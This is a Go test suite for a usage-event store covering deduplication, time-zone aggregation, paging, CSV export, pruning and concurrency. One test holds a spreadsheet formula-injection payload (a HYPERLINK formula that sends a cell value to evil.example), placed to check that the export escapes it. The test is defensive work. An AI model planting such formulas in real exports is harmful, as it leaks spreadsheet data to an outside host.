package usage_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"os"
	"reflect"
	"slices"
	"sync"
	"testing"
	"time"

	. "github.com/onsi/gomega"

	"github.com/minimax/platform-hub/internal/pricing"
	"github.com/minimax/platform-hub/internal/testpg"
	"github.com/minimax/platform-hub/internal/usage"
)

// pg is one PostgreSQL server for the package; each test gets a database.
var pg *testpg.Server

func TestMain(m *testing.M) { os.Exit(testpg.Run(m, &pg)) }

// TestStore runs the same suite against every implementation.
func TestStore(t *testing.T) {
	for name, db := range testpg.Databases(pg) {
		t.Run(name, func(t *testing.T) {
			for _, tc := range storeSuite {
				t.Run(tc.name, func(t *testing.T) {
					s, err := usage.New(context.Background(), db(t))
					if err != nil {
						t.Fatal(err)
					}
					tc.run(t, sumChecked{s, t})
				})
			}
		})
	}
}

// sumChecked is a store whose Aggregate also asks Sum for the same query
// and checks that its parts add up to the same buckets, so that every
// query of the suite checks Sum too.
type sumChecked struct {
	usage.Store
	t *testing.T
}

func (s sumChecked) Aggregate(ctx context.Context, q usage.Query) ([]usage.Bucket, error) {
	s.t.Helper()
	buckets, err := s.Store.Aggregate(ctx, q)
	if err != nil {
		return buckets, err
	}
	key := func(start time.Time, group []string) string {
		return fmt.Sprintf("%d %q", start.UnixNano(), group)
	}
	want := map[string]usage.Totals{}
	for _, b := range buckets {
		group := make([]string, len(q.GroupBy))
		for i, d := range q.GroupBy {
			group[i] = b.Group[d]
		}
		want[key(b.Start, group)] = b.Totals
	}
	// Asked with its dimensions in the reverse order too, Sum gives the
	// values in that order.
	reversed := q
	reversed.GroupBy = slices.Clone(q.GroupBy)
	slices.Reverse(reversed.GroupBy)
	for i, q := range []usage.Query{q, reversed} {
		got := map[string]usage.Totals{}
		err = s.Sum(ctx, q, func(start time.Time, group []string, t usage.Totals) {
			group = slices.Clone(group)
			if i == 1 {
				slices.Reverse(group)
			}
			sum := got[key(start, group)]
			sum.Add(t)
			got[key(start, group)] = sum
		})
		if err != nil {
			s.t.Fatalf("Sum(%+v): %v", q, err)
		}
		if !reflect.DeepEqual(got, want) {
			s.t.Fatalf("Sum(%+v) adds up to\n%v\nAggregate answers\n%v", q, got, want)
		}
	}
	return buckets, nil
}

var t0 = time.Date(2026, 11, 27, 10, 15, 0, 0, time.UTC)

func event(id string, at time.Time, project, key, model string, in, out int64) usage.Event {
	return usage.Event{ID: id, Time: at, Project: project, KeyID: key, Service: pricing.Chat,
		Endpoint: "/v1/chat/completions", Model: model, InputTokens: in, OutputTokens: out, StatusCode: 200}
}

func total(g Gomega, s usage.Store) usage.Totals {
	buckets, err := s.Aggregate(context.Background(), usage.Query{From: t0.Add(-365 * 24 * time.Hour), To: t0.Add(365 * 24 * time.Hour)})
	g.Expect(err).NotTo(HaveOccurred())
	var t usage.Totals
	for _, b := range buckets {
		t.Add(b.Totals)
	}
	return t
}

// storeCase is one test of the suite every implementation passes.
type storeCase struct {
	name string
	run  func(t *testing.T, s usage.Store)
}

var storeSuite = []storeCase{
	{"an event delivered twice counts once", func(t *testing.T, s usage.Store) {
		g := NewWithT(t)
		ctx := context.Background()
		stored, err := s.Insert(ctx, []usage.Event{
			event("a", t0, "p1", "k1", "m", 10, 5),
			event("b", t0, "p1", "k1", "m", 20, 5),
			event("b", t0, "p1", "k1", "m", 20, 5), // twice in one batch
		})
		g.Expect(err).NotTo(HaveOccurred())
		g.Expect(stored).To(HaveLen(2))
		stored, err = s.Insert(ctx, []usage.Event{event("b", t0, "p1", "k1", "m", 20, 5), event("c", t0, "p1", "k1", "m", 1, 1)})
		g.Expect(err).NotTo(HaveOccurred())
		g.Expect(stored).To(Equal([]usage.Event{event("c", t0, "p1", "k1", "m", 1, 1)}), "only c is new")
		g.Expect(total(g, s)).To(Equal(usage.Totals{Calls: 3, InputTokens: 31, OutputTokens: 11}))
	}},
	{"a batch with a bad event stores nothing", func(t *testing.T, s usage.Store) {
		g := NewWithT(t)
		bad := event("y", t0, "p1", "k1", "m", -1, 0)
		_, err := s.Insert(context.Background(), []usage.Event{event("x", t0, "p1", "k1", "m", 1, 1), bad})
		g.Expect(errors.Is(err, usage.ErrInvalidEvent)).To(BeTrue(), "got %v", err)
		g.Expect(err.Error()).To(ContainSubstring("event 1"))
		g.Expect(total(g, s)).To(Equal(usage.Totals{}))
	}},
	{"aggregates by hour, day and month in a time zone, grouped and filtered", func(t *testing.T, s usage.Store) {
		g := NewWithT(t)
		ctx := context.Background()
		shanghai, _ := time.LoadLocation("Asia/Shanghai")
		// 2026-11-27 15:30 UTC is 23:30 in Shanghai; 16:30 UTC is already
		// 28 November there.
		_, err := s.Insert(ctx, []usage.Event{
			event("1", time.Date(2026, 11, 27, 15, 30, 0, 0, time.UTC), "p1", "k1", "m1", 100, 10),
			event("2", time.Date(2026, 11, 27, 15, 45, 0, 0, time.UTC), "p1", "k2", "m2", 200, 20),
			event("3", time.Date(2026, 11, 27, 16, 30, 0, 0, time.UTC), "p1", "k1", "m1", 300, 30),
			event("4", time.Date(2026, 11, 27, 16, 40, 0, 0, time.UTC), "p2", "k3", "m1", 400, 40),
			event("5", time.Date(2026, 12, 1, 1, 0, 0, 0, time.UTC), "p1", "k1", "m1", 500, 50),
		})
		g.Expect(err).NotTo(HaveOccurred())
		from, to := time.Date(2026, 11, 1, 0, 0, 0, 0, shanghai), time.Date(2027, 1, 1, 0, 0, 0, 0, shanghai)

		days, err := s.Aggregate(ctx, usage.Query{From: from, To: to, Granularity: usage.Day, Location: shanghai,
			GroupBy: []usage.Dimension{usage.ByProject}})
		g.Expect(err).NotTo(HaveOccurred())
		g.Expect(days).To(HaveLen(4))
		g.Expect(days[0].Start).To(BeTemporally("==", time.Date(2026, 11, 27, 0, 0, 0, 0, shanghai)))
		g.Expect(days[0].Group).To(Equal(map[usage.Dimension]string{usage.ByProject: "p1"}))
		g.Expect(days[0].Totals).To(Equal(usage.Totals{Calls: 2, InputTokens: 300, OutputTokens: 30}))
		g.Expect(days[1].Start).To(BeTemporally("==", time.Date(2026, 11, 28, 0, 0, 0, 0, shanghai)))
		g.Expect(days[1].Group[usage.ByProject]).To(Equal("p1"))
		g.Expect(days[1].Calls).To(BeEquivalentTo(1))
		g.Expect(days[2].Group[usage.ByProject]).To(Equal("p2"))
		g.Expect(days[3].Start).To(BeTemporally("==", time.Date(2026, 12, 1, 0, 0, 0, 0, shanghai)))

		months, err := s.Aggregate(ctx, usage.Query{From: from, To: to, Granularity: usage.Month, Location: shanghai,
			Filter: usage.Filter{Project: "p1"}})
		g.Expect(err).NotTo(HaveOccurred())
		g.Expect(months).To(HaveLen(2))
		g.Expect(months[0].Totals).To(Equal(usage.Totals{Calls: 3, InputTokens: 600, OutputTokens: 60}))
		g.Expect(months[1].Totals).To(Equal(usage.Totals{Calls: 1, InputTokens: 500, OutputTokens: 50}))

		hours, err := s.Aggregate(ctx, usage.Query{From: from, To: to, Granularity: usage.Hour,
			GroupBy: []usage.Dimension{usage.ByKeyID, usage.ByModel}, Filter: usage.Filter{Model: "m1"}})
		g.Expect(err).NotTo(HaveOccurred())
		g.Expect(hours).To(HaveLen(4))
		g.Expect(hours[0].Start).To(Equal(time.Date(2026, 11, 27, 15, 0, 0, 0, time.UTC)))
		g.Expect(hours[0].Group).To(Equal(map[usage.Dimension]string{usage.ByKeyID: "k1", usage.ByModel: "m1"}))
	}},
	{"drills down from a bucket to its events", func(t *testing.T, s usage.Store) {
		g := NewWithT(t)
		ctx := context.Background()
		_, err := s.Insert(ctx, []usage.Event{
			event("late", t0.Add(30*time.Minute), "p1", "k1", "m", 1, 0),
			event("early", t0, "p1", "k1", "m", 2, 0),
			event("other-key", t0, "p1", "k2", "m", 3, 0),
			event("next-hour", t0.Add(time.Hour), "p1", "k1", "m", 4, 0),
		})
		g.Expect(err).NotTo(HaveOccurred())
		hour := t0.Truncate(time.Hour)
		var ids []string
		g.Expect(s.Events(ctx, usage.EventFilter{From: hour, To: hour.Add(time.Hour), Filter: usage.Filter{KeyID: "k1"}},
			func(e usage.Event) error {
				ids = append(ids, e.ID)
				return nil
			})).To(Succeed())
		g.Expect(ids).To(Equal([]string{"early", "late"}), "in time order")

		var first usage.Event
		g.Expect(s.Events(ctx, usage.EventFilter{From: hour, To: hour.Add(2 * time.Hour), Limit: 1},
			func(e usage.Event) error { first = e; return nil })).To(Succeed())
		g.Expect(first).To(Equal(event("early", t0, "p1", "k1", "m", 2, 0)), "events come back as stored")
	}},
	{"pages through events after a cursor, ties in time ordered by ID", func(t *testing.T, s usage.Store) {
		g := NewWithT(t)
		ctx := context.Background()
		_, err := s.Insert(ctx, []usage.Event{
			event("c", t0, "p1", "k1", "m", 1, 0), event("a", t0, "p1", "k1", "m", 1, 0),
			event("b", t0, "p1", "k1", "m", 1, 0), event("d", t0.Add(time.Minute), "p1", "k1", "m", 1, 0),
		})
		g.Expect(err).NotTo(HaveOccurred())
		page := func(after *usage.EventCursor) []string {
			var ids []string
			g.Expect(s.Events(ctx, usage.EventFilter{From: t0, To: t0.Add(time.Hour), Limit: 2, After: after}, func(e usage.Event) error {
				ids = append(ids, e.ID)
				return nil
			})).To(Succeed())
			return ids
		}
		g.Expect(page(nil)).To(Equal([]string{"a", "b"}))
		g.Expect(page(&usage.EventCursor{Time: t0, ID: "b"})).To(Equal([]string{"c", "d"}))
		g.Expect(page(&usage.EventCursor{Time: t0.Add(time.Minute), ID: "d"})).To(BeEmpty())
	}},
	{"compares a period with the one before and the same one last month", func(t *testing.T, s usage.Store) {
		g := NewWithT(t)
		ctx := context.Background()
		_, err := s.Insert(ctx, []usage.Event{
			event("now", time.Date(2026, 11, 20, 12, 0, 0, 0, time.UTC), "p1", "k1", "m", 10, 0),
			event("week-before", time.Date(2026, 11, 13, 12, 0, 0, 0, time.UTC), "p1", "k1", "m", 20, 0),
			event("month-before", time.Date(2026, 10, 20, 12, 0, 0, 0, time.UTC), "p1", "k1", "m", 40, 0),
		})
		g.Expect(err).NotTo(HaveOccurred())
		c, err := usage.Compare(ctx, s, time.Date(2026, 11, 17, 0, 0, 0, 0, time.UTC), time.Date(2026, 11, 24, 0, 0, 0, 0, time.UTC), nil, usage.Filter{})
		g.Expect(err).NotTo(HaveOccurred())
		g.Expect(c.Current.InputTokens).To(BeEquivalentTo(10))
		g.Expect(c.Previous.InputTokens).To(BeEquivalentTo(20))
		g.Expect(c.SameLastMonth.InputTokens).To(BeEquivalentTo(40))
	}},
	{"exports events and aggregates as RFC 4180 CSV", func(t *testing.T, s usage.Store) {
		g := NewWithT(t)
		ctx := context.Background()
		e := event("q", t0, "p1", "k1", `model "x", v2`, 7, 3)
		e.CachedInputTokens = 2
		_, err := s.Insert(ctx, []usage.Event{e})
		g.Expect(err).NotTo(HaveOccurred())
		var buf bytes.Buffer
		g.Expect(usage.WriteEventsCSV(ctx, &buf, s, usage.EventFilter{From: t0.Add(-time.Hour), To: t0.Add(time.Hour)})).To(Succeed())
		records, err := csv.NewReader(&buf).ReadAll()
		g.Expect(err).NotTo(HaveOccurred())
		g.Expect(records).To(HaveLen(2))
		g.Expect(records[1][6]).To(Equal(`model "x", v2`), "quotes and commas survive")
		g.Expect(records[1][1]).To(Equal("2026-11-27T10:15:00Z"))
		g.Expect(records[0][7:10]).To(Equal([]string{"input_tokens", "cached_input_tokens", "output_tokens"}))
		g.Expect(records[1][7:10]).To(Equal([]string{"7", "2", "3"}))

		q := usage.Query{From: t0.Add(-time.Hour), To: t0.Add(time.Hour), Granularity: usage.Hour, GroupBy: []usage.Dimension{usage.ByModel}}
		buckets, err := s.Aggregate(ctx, q)
		g.Expect(err).NotTo(HaveOccurred())
		buf.Reset()
		g.Expect(usage.WriteBucketsCSV(&buf, q, buckets)).To(Succeed())
		records, err = csv.NewReader(&buf).ReadAll()
		g.Expect(err).NotTo(HaveOccurred())
		g.Expect(records).To(Equal([][]string{
			{"start", "model", "calls", "input_tokens", "cached_input_tokens", "output_tokens", "video_seconds", "storage_byte_hours"},
			{"2026-11-27T10:00:00Z", `model "x", v2`, "1", "7", "2", "3", "0", "0"},
		}))
	}},
	{"exports a model name that is a formula as text", func(t *testing.T, s usage.Store) {
		g := NewWithT(t)
		ctx := context.Background()
		// Model names come from requests: a caller can name one so that a
		// spreadsheet opening the export runs it.
		formula := `=HYPERLINK("https://evil.example/?"&B2,"open")`
		_, err := s.Insert(ctx, []usage.Event{event("f", t0, "p1", "k1", formula, 1, 0)})
		g.Expect(err).NotTo(HaveOccurred())
		var buf bytes.Buffer
		g.Expect(usage.WriteEventsCSV(ctx, &buf, s, usage.EventFilter{From: t0.Add(-time.Hour), To: t0.Add(time.Hour)})).To(Succeed())
		records, err := csv.NewReader(&buf).ReadAll()
		g.Expect(err).NotTo(HaveOccurred())
		g.Expect(records[1][6]).To(Equal("'" + formula))

		q := usage.Query{From: t0.Add(-time.Hour), To: t0.Add(time.Hour), Granularity: usage.Hour, GroupBy: []usage.Dimension{usage.ByModel}}
		buckets, err := s.Aggregate(ctx, q)
		g.Expect(err).NotTo(HaveOccurred())
		buf.Reset()
		g.Expect(usage.WriteBucketsCSV(&buf, q, buckets)).To(Succeed())
		records, err = csv.NewReader(&buf).ReadAll()
		g.Expect(err).NotTo(HaveOccurred())
		g.Expect(records[1][1]).To(Equal("'" + formula))
	}},
	{"tells which keys were used, by when their events were stored", func(t *testing.T, s usage.Store) {
		g := NewWithT(t)
		ctx := context.Background()
		_, err := s.Insert(ctx, []usage.Event{event("3", t0.Add(-time.Hour), "p2", "k2", "m", 1, 0)})
		g.Expect(err).NotTo(HaveOccurred())
		time.Sleep(10 * time.Millisecond)
		since := time.Now()
		// Late events (old event times) stored after since count.
		_, err = s.Insert(ctx, []usage.Event{
			event("1", t0.AddDate(0, 0, -2), "p1", "k1", "m", 1, 0),
			event("2", t0.AddDate(0, 0, -2).Add(time.Minute), "p1", "k1", "m", 1, 0),
		})
		g.Expect(err).NotTo(HaveOccurred())
		active, err := s.LastUsed(ctx, since)
		g.Expect(err).NotTo(HaveOccurred())
		g.Expect(active).To(HaveLen(1))
		g.Expect(active[0].Project).To(Equal("p1"))
		g.Expect(active[0].KeyID).To(Equal("k1"))
		g.Expect(active[0].Last).To(Equal(t0.AddDate(0, 0, -2).Add(time.Minute)))
		g.Expect(active[0].Stored).To(BeTemporally(">=", since.Truncate(time.Microsecond)))
	}},
	{"prunes raw events and rollups on separate windows", func(t *testing.T, s usage.Store) {
		g := NewWithT(t)
		ctx := context.Background()
		old := t0.AddDate(0, -2, 0)
		_, err := s.Insert(ctx, []usage.Event{event("old", old, "p1", "k1", "m", 1, 0), event("new", t0, "p1", "k1", "m", 2, 0)})
		g.Expect(err).NotTo(HaveOccurred())
		g.Expect(s.Prune(ctx, t0.AddDate(0, -1, 0), t0.AddDate(-1, -1, 0))).To(Succeed())
		var ids []string
		g.Expect(s.Events(ctx, usage.EventFilter{From: old.Add(-time.Hour), To: t0.Add(time.Hour)}, func(e usage.Event) error {
			ids = append(ids, e.ID)
			return nil
		})).To(Succeed())
		g.Expect(ids).To(Equal([]string{"new"}), "the old raw event is pruned")
		g.Expect(total(g, s).InputTokens).To(BeEquivalentTo(3), "rollups are kept longer")
	}},
	{"concurrent writers with overlapping batches count each event once", func(t *testing.T, s usage.Store) {
		g := NewWithT(t)
		ctx := context.Background()
		const writers, perWriter = 6, 300
		// The days are rolled up already, per key and per project in
		// Shanghai: every event is late, so each batch also adds to days
		// through triggers. Each writer's keys use the models in another
		// order, so that writers' per-key rows, written in key order, would
		// reach the per-project rows in different orders.
		mine := func(w, i int) usage.Event {
			return event(fmt.Sprintf("w%d-%d", w, i), t0.Add(time.Duration(i)*time.Minute), "p1", fmt.Sprintf("k%d-%d", w, i%7),
				fmt.Sprintf("m%d", (i+w)%3), 1, 2)
		}
		shanghai, err := time.LoadLocation("Asia/Shanghai")
		g.Expect(err).NotTo(HaveOccurred())
		_, err = s.Insert(ctx, []usage.Event{event("first", t0.Add(-24*time.Hour), "p1", "k0", "m0", 0, 0)})
		g.Expect(err).NotTo(HaveOccurred())
		g.Expect(s.RollUpDays(ctx, t0.Add(2*24*time.Hour), shanghai)).To(Succeed())
		var wg sync.WaitGroup
		errs := make(chan error, writers)
		for w := range writers {
			wg.Add(1)
			go func() {
				defer wg.Done()
				// Each writer sends its own events and half of its
				// neighbour's, as retries after a timeout would.
				batch := make([]usage.Event, 0, perWriter+perWriter/2)
				for i := range perWriter {
					batch = append(batch, mine(w, i))
				}
				for i := range perWriter / 2 {
					n := (w + 1) % writers
					batch = append(batch, mine(n, i))
				}
				for _, chunk := range [][]usage.Event{batch[:200], batch[200:]} {
					if _, err := s.Insert(ctx, chunk); err != nil {
						errs <- err
						return
					}
				}
			}()
		}
		wg.Wait()
		close(errs)
		for err := range errs {
			g.Expect(err).NotTo(HaveOccurred())
		}
		want := usage.Totals{Calls: writers*perWriter + 1, InputTokens: writers * perWriter, OutputTokens: 2 * writers * perWriter}
		g.Expect(total(g, s)).To(Equal(want))
		for _, q := range []usage.Query{
			{Granularity: usage.Day, Location: shanghai},                        // per project, Shanghai days
			{Granularity: usage.Day, GroupBy: []usage.Dimension{usage.ByKeyID}}, // per key, UTC days
		} {
			q.From, q.To = t0.Add(-48*time.Hour), t0.Add(48*time.Hour)
			buckets, err := s.Aggregate(ctx, q)
			g.Expect(err).NotTo(HaveOccurred())
			var sum usage.Totals
			for _, b := range buckets {
				sum.Add(b.Totals)
			}
			g.Expect(sum).To(Equal(want), "%+v", q)
		}
	}},
}
